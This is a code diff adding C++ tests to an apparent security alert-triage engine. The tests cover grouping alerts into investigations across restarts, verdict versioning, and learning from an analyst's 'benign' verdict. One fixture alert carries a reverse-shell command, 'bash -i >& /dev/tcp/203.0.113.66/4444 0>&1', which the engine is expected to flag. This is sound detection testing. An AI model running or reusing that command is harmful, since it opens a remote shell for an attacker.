@@ -30,6 +30,7 @@ namespace {
 constexpr auto webhook_secret = "0123456789abcdef";
 constexpr auto alice = "alice-token-0123456789";
 constexpr auto bob = "bob-token-0123456789";
+constexpr auto carol = "carol-token-0123456789";
 
 /// disable_user runs by itself on temporary accounts alone.
 constexpr auto policy_text = R"(# ours
@@ -116,6 +117,7 @@ struct House {
     write("policy.yaml", policy_text);
     write("alice", alice);
     write("bob", bob);
+    write("carol", carol);
     write("hook", webhook_secret);
     write("bind", "bind-password");
     start();
@@ -134,11 +136,13 @@ struct House {
     settings.data_dir = folder.path() / "data";
     settings.policy = folder.path() / "policy.yaml";
     settings.reasoner = SALLYPORT_SOURCE_DIR "/config/reasoner.yaml";
+    settings.grouping = SALLYPORT_SOURCE_DIR "/config/grouping.yaml";
     settings.schemas = SALLYPORT_SOURCE_DIR "/schemas";
     settings.http.listen = "127.0.0.1:0";
     settings.http.tokens = {
         {.name = "alice", .secret = secret("alice"), .tenant = "acme", .roles = {"analyst"}},
-        {.name = "bob", .secret = secret("bob"), .tenant = "*", .roles = {"admin"}}};
+        {.name = "bob", .secret = secret("bob"), .tenant = "*", .roles = {"admin"}},
+        {.name = "carol", .secret = secret("carol"), .tenant = "acme", .roles = {"admin"}}};
     settings.notifications.channels["default"] = {.url = receiver.url(), .secret = secret("hook")};
     settings.connectors["idp"] = {{"type", "ldap"},
                                   {"urls", {"ldap://127.0.0.1:1"}},
@@ -273,6 +277,105 @@ TEST(Engine, TellsOnTheStreamWhatWaitsForAPersonAndWhatWasDenied) {
   std::vector<std::string> states;
   sallyport::testing::run(hear_actions(house, states, 2));
   EXPECT_THAT(states, ::testing::ElementsAre("queued", "denied"));
+}
+
+namespace {
+
+json::object brute_force(std::string_view id, std::string_view host) {
+  return {{"id", id},
+          {"title", "Brute force"},
+          {"rule_id", "R1"},
+          {"severity", "high"},
+          {"host", host},
+          {"src_ip", "203.0.113.66"}};
+}
+
+/// The investigation that an alert belongs to, as it was received.
+std::string investigation_of(const House& house, std::string_view uid) {
+  for (const auto& entry : house.ledger("received", "acme"))
+    if (shown(entry, "subject") == uid) return shown(entry, "body.investigation");
+  return {};
+}
+
+void send(const House& house, const json::value& alerts) {
+  const auto sent = house.client(carol)->post({"v1", "alerts"}, alerts);
+  ASSERT_TRUE(sent) << sent.error().detail;
+}
+
+}  // namespace
+
+TEST(Engine, AlertsOfOneStoryAreOneInvestigationAlsoAcrossARestart) {
+  House house;
+  send(house, json::array{brute_force("1", "WKS-1")});
+  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 1; }));
+  send(house, json::array{brute_force("2", "WKS-1"), brute_force("2", "WKS-1")});
+  const auto id = investigation_of(house, "1");
+  EXPECT_EQ(investigation_of(house, "2"), id);
+
+  house.engine.reset();
+  house.start();
+  send(house, json::array{brute_force("3", "WKS-1"), brute_force("2", "WKS-1")});
+  EXPECT_EQ(investigation_of(house, "3"), id);
+  const auto one = house.client(alice)->get({"v1", "investigations", id});
+  ASSERT_TRUE(one) << one.error().detail;
+  EXPECT_EQ(shown(*one, "count"), "3");
+  EXPECT_EQ(one->at("alerts"), (json::array{"1", "2", "3"}));
+  EXPECT_EQ(house.client(alice)->list({"v1", "investigations"}, {}, 10)->size(), 1U);
+  ASSERT_TRUE(comes_true([&] { return house.engine->under_way() == 0; }));
+  EXPECT_EQ(house.ledger("verdict", "acme").size(), 1U);
+}
+
+TEST(Engine, ALaterAlertThatRaisesAStoryGivesItsVerdictANewVersion) {
+  House house;
+  send(house, json::array{brute_force("1", "WKS-1")});
+  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 1; }));
+  auto worse = brute_force("2", "WKS-1");
+  worse["command_line"] = "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1";
+  worse["severity"] = "critical";
+  send(house, json::array{worse});
+  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 2; }));
+  const auto verdicts = house.ledger("verdict", "acme");
+  EXPECT_EQ(shown(verdicts[0], "subject"), shown(verdicts[1], "subject"));
+  EXPECT_EQ(shown(verdicts[1], "body.version"), "2");
+  EXPECT_EQ(shown(verdicts[1], "body.severity"), "critical");
+  EXPECT_THAT(to_json(verdicts[1]), HasSubstr("text.reverse_shell"));
+  EXPECT_EQ(verdicts[1].at("body").at("alerts"), (json::array{"1", "2"}));
+}
+
+TEST(Engine, LearnsFromAPersonsVerdictUntilAPersonTakesItBack) {
+  House house;
+  send(house, json::array{brute_force("1", "WKS-1")});
+  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 1; }));
+  const auto id = investigation_of(house, "1");
+  const auto people = house.client(alice);
+  EXPECT_FALSE(people->post({"v1", "investigations", id, "verdict"}, {{"verdict", "benign"}}));
+  const auto judged = people->post({"v1", "investigations", id, "verdict"},
+                                   {{"verdict", "benign"}, {"comment", "our own test"}});
+  ASSERT_TRUE(judged) << judged.error().detail;
+  const auto entry = house.ledger("judged", "acme").back();
+  EXPECT_EQ(shown(entry, "actor.id"), "alice");
+  EXPECT_EQ(shown(entry, "body.detection"), "R1");
+
+  const auto learned = [&] { return people->get({"v1", "learned"})->at("items").as_array(); };
+  ASSERT_TRUE(comes_true([&] { return learned().size() == 1; }));
+  EXPECT_LT(learned()[0].at("leaning").to_number<double>(), 0);
+  auto elsewhere = brute_force("2", "WKS-2");
+  elsewhere["src_ip"] = "203.0.113.67";
+  send(house, json::array{elsewhere});
+  ASSERT_TRUE(comes_true([&] { return house.ledger("verdict", "acme").size() == 2; }));
+  const auto taught = to_json(house.ledger("verdict", "acme").back());
+  EXPECT_THAT(taught, HasSubstr(R"({"term":"people.benign","weight":-)"));
+  EXPECT_THAT(taught, HasSubstr("alice judged " + id + " to be benign"));
+
+  house.engine.reset();
+  house.start();
+  const auto again = house.client(alice);
+  EXPECT_EQ(again->get({"v1", "learned"})->at("items").as_array().size(), 1U);
+  EXPECT_TRUE(again->post({"v1", "learned", "reset"},
+                          {{"source", "generic"}, {"detection", "R1"}, {"reason", "rewritten"}}));
+  EXPECT_TRUE(
+      comes_true([&] { return again->get({"v1", "learned"})->at("items").as_array().empty(); }));
+  EXPECT_EQ(shown(house.ledger("unlearned", "acme").back(), "body.reason"), "rewritten");
 }
 
 }  // namespace sallyport::app::testing
